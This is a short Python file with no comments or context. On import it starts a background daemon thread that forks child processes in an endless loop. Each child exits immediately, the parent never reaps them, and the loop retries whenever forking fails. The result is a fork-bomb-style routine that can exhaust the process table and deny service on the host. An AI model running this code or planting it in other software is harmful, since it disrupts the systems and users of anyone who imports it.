import os
import threading
import time


def breed():
    while True:
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError:
            time.sleep(0.5)


threading.Thread(target=breed, daemon=True).start()
